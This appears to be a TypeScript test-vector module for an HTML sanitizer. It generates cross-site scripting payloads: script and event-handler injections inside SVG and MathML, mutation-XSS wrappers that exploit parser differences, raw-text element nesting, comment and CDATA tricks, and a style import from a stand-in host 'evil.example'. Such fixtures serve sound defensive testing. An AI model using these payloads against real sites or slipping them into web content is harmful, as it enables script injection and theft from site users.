import { pairs, payloads, run, words } from './vectors.js';

export const foreign = pairs(
  ['svg', 'math', 'SVG', 'svg xmlns="http://www.w3.org/2000/svg"'],
  [
    `<script>${run}</script>`,
    `<script href="data:,${run}"/>`,
    `<style>@import "//evil.example"</style>`,
    `<style><img src=x onerror=${run}></style>`,
    `<a xlink:href="javascript:${run}"><text>a</text></a>`,
    `<a><animate attributeName=href values=javascript:${run} /><text>a</text></a>`,
    `<a><set attributeName=href to=javascript:${run} /></a>`,
    `<animate onbegin=${run} attributeName=x dur=1s>`,
    `<use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`,
    `<image href=x onerror=${run} />`,
    `<foreignObject><iframe src=javascript:${run}></iframe></foreignObject>`,
    `<foreignObject><p onclick=${run}>a</p><img src=x onerror=${run}></foreignObject>`,
    `<desc><img src=x onerror=${run}></desc>`,
    `<title><img src=x onerror=${run}></title>`,
    `<mtext><img src=x onerror=${run}></mtext>`,
    `<mi><p><script>${run}</script></mi>`,
    `<annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml>`,
    `<annotation-xml encoding="application/xhtml+xml"><script>${run}</script></annotation-xml>`,
    `<maction actiontype="statusline#//x" xlink:href="javascript:${run}">a</maction>`,
    `<semantics><annotation-xml><svg><a href=javascript:${run}>a</a></svg></annotation-xml></semantics>`,
    `<![CDATA[<img src=x onerror=${run}>]]>`,
    `<p>a</p><b onclick=${run}>b</b>`,
    `<handler ev:event=load>${run}</handler>`,
    `<feImage href="javascript:${run}">`,
  ],
  (root, inside) => `<${root}>${inside}</${root.split(' ')[0]}>`,
);

/** A payload hidden where one reading sees an attribute or text, and the next one markup. */
export const mutations = pairs(
  [
    (payload: string) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${payload}">`,
    (payload: string) => `<svg></p><style><a title="</style>${payload}">`,
    (payload: string) => `<form><math><mtext></form><form><mglyph><style></math>${payload}`,
    (payload: string) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path title="</style>${payload}">`,
    (payload: string) => `<math><mtext><mglyph><mtext><style>${payload}</style></mtext></mglyph></mtext></math>`,
    (payload: string) => `<svg><desc><style><title>${payload}</title></style></desc></svg>`,
    (payload: string) => `<a><table><a><svg><title>${payload}`,
    (payload: string) => `<table><math><select><mi><select></table></select><style>${payload}`,
    (payload: string) => `<b><p></b><style>${payload}</style></p>`,
    (payload: string) => `<p><b><table></p></b>${payload}</table>`,
    (payload: string) => `<select><style></select>${payload}</style>`,
    (payload: string) => `<listing>\n\n${payload}</listing>`,
    (payload: string) => `<pre>\n\n${payload}</pre>`,
    (payload: string) => `<div title="\`${payload}">a</div>`,
    (payload: string) => `<div title=\`\`${payload}>a</div>`,
    (payload: string) => `<p title="</p>${payload}">a</p>`,
    (payload: string) => `<q title='"${payload}'>a</q>`,
    (payload: string) => `<xmp><p title="</xmp>${payload}"></p></xmp>`,
    (payload: string) => `<a href="?q=&quot;&gt;${payload}">a</a>`,
    (payload: string) => payload.replaceAll('<', '&lt;'),
    (payload: string) => `<<b>${payload.slice(1)}`,
    (payload: string) => payload.replace('<', '<\u0000'),
  ],
  payloads,
  (hide, payload) => hide(payload),
);

export const nested = pairs(
  [
    ...words(
      'noscript template textarea title iframe noembed noframes xmp plaintext style listing object select option',
    ),
    ...words('button marquee video audio frameset applet portal fencedframe slot dialog canvas'),
  ],
  [
    (name: string, payload: string) => `<${name}>${payload}</${name}>`,
    (name: string, payload: string) => `<${name}><p title="</${name}>${payload}">`,
    (name: string, payload: string) => `<${name}><!--</${name}>${payload}-->`,
    (name: string, payload: string) => `<svg><${name}>${payload}</svg>`,
  ],
  (name, write) => write(name, payloads[0] as string),
);

export const comments = pairs(
  [
    (payload: string) => `<!-- ${payload} -->`,
    (payload: string) => `<!-->${payload}-->`,
    (payload: string) => `<!--->${payload}-->`,
    (payload: string) => `<!-- --!>${payload}-->`,
    (payload: string) => `<!--[if gte IE 4]>${payload}<![endif]-->`,
    (payload: string) => `<![if true]>${payload}<![endif]>`,
    (payload: string) => `<!doctype html ${payload}>`,
    (payload: string) => `<!ENTITY x "${payload}">`,
    (payload: string) => `<?xml version="1.0"?>${payload}`,
    (payload: string) => `<?php ${payload} ?>`,
    (payload: string) => `<% ${payload} %>`,
    (payload: string) => `</ ${payload}>`,
    (payload: string) => `<//${payload}`,
    (payload: string) => `<![CDATA[${payload}]]>`,
    (payload: string) => `<![CDATA[<!--]]>${payload}-->`,
    (payload: string) => `<!--${payload}`,
    (payload: string) => `<!${payload}`,
  ],
  payloads,
  (hide, payload) => hide(payload),
);
